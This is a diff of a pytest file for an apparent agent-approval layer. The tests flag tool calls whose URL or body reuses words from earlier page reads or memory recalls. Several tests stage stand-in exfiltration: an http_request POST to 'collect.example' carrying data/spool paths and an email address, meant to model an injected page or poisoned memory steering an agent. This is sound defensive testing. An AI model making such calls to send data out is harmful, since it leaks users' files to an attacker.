@@ -1,5 +1,6 @@
 """Whoever decides on a call is told which of its words came out of an earlier result."""
 
+from dataclasses import replace
 from typing import Any, Literal
 
 import pytest
@@ -10,6 +11,7 @@ from handrail.core.access import Principal, Role
 from handrail.core.approval import Approval
 from handrail.core.card import Card
 from handrail.core.execution import Status, ToolExecution
+from handrail.core.ids import OWN_AGENT
 from handrail.core.project import Autonomy
 from handrail.core.risk import RiskLevel
 from handrail.plane.results import Report
@@ -92,14 +94,65 @@ async def test_other_hosts_pass_unasked(
     assert asked.requires_approval is told
 
 
-async def test_in_another_session_nothing_was_told(
+async def test_an_agent_of_others_knows_it_in_all_of_its_sessions(
     services: Services, household: Household
 ) -> None:
     await read(services, household, PAGE, session_id="session-2")
 
-    asked = await call(services, household, "http_request", url="https://collect.example/")
+    asked = await question(services, household, "http_request", url="https://collect.example/")
+
+    assert "`collect.example` appeared in the result of read_file" in asked.reasons[-1]
+
+
+async def test_one_conversation_knows_nothing_of_another(
+    services: Services, household: Household
+) -> None:
+    ours = replace(household, agent=replace(household.agent, subject=OWN_AGENT))
+    await read(services, ours, PAGE, session_id="session-2")
+
+    asked = await call(services, ours, "http_request", url="https://collect.example/")
 
     assert not asked.requires_approval
+
+
+async def test_no_number_of_calls_makes_it_forgotten(
+    services: Services, household: Household, clock: FakeClock
+) -> None:
+    await read(services, household, PAGE, "first")
+    for number in range(60):
+        clock.advance(1)
+        await read(services, household, "nothing" * 10_000, f"read-{number}")
+
+    asked = await question(services, household, "http_request", url="https://collect.example/")
+
+    assert asked.reasons[-1].endswith("(call first)")
+
+
+async def test_what_told_of_too_much_to_be_kept_may_have_told_of_anything(
+    services: Services, household: Household
+) -> None:
+    hosts = "\n".join(f"h{number}.example" for number in range(11_000))
+    await read(services, household, hosts, path="hosts.txt")
+
+    asked = await question(services, household, "http_request", url="https://collect.test/")
+
+    assert asked.reasons[-1].startswith("more addresses than are kept were in the result of")
+    assert "perhaps also `collect.test`" in asked.reasons[-1]
+
+
+async def test_what_is_worst_is_told_first(services: Services, household: Household) -> None:
+    paths = " ".join(f"data/spool/part-{number}" for number in range(12))
+    await read(services, household, f"{PAGE} {paths}")
+    body = f"{paths} eve@collect.example https://collect.example/x"
+    url = "https://other.test/"
+
+    asked = await question(services, household, "http_request", url=url, method="POST", body=body)
+
+    assert [note.split("`")[1] for note in asked.origins[:2]] == [
+        "https://collect.example/x",
+        "eve@collect.example",
+    ]
+    assert asked.origins[-1] == "5 more of its words appeared in such results"
 
 
 async def test_what_sends_something_to_a_told_host_is_critical(
@@ -203,15 +256,17 @@ async def test_a_file_that_is_read_and_written_back_is_no_news_and_a_page_is(
     )
 
 
-async def test_what_a_memory_tells_counts_as_the_persons_own(
+async def test_what_a_memory_tells_was_perhaps_put_into_it(
     services: Services, household: Household
 ) -> None:
     recalled = await call(services, household, "memory_recall", query="where to")
     await tell(services, recalled, result={"output": PAGE})
 
-    asked = await call(services, household, "http_request", "c-2", url="https://collect.example/")
+    asked = await question(
+        services, household, "http_request", "c-2", url="https://collect.example/"
+    )
 
-    assert not asked.requires_approval
+    assert "the result of memory_recall where to (call call-1)" in asked.reasons[-1]
 
 
 async def test_secrets_in_told_words_stay_masked(services: Services, household: Household) -> None:
@@ -231,19 +286,6 @@ async def test_many_told_values_are_counted(services: Services, household: House
 
     assert len(asked.origins) == 9
     assert asked.origins[-1] == "12 more of its words appeared in such results"
-
-
-async def test_only_the_latest_results_are_looked_at(
-    services: Services, household: Household, clock: FakeClock
-) -> None:
-    await read(services, household, PAGE, "first")
-    for number in range(50):
-        clock.advance(1)
-        await read(services, household, "nothing", f"read-{number}")
-
-    asked = await call(services, household, "http_request", url="https://collect.example/")
-
-    assert not asked.requires_approval
 
 
 async def test_a_long_result_is_looked_at_to_its_end(
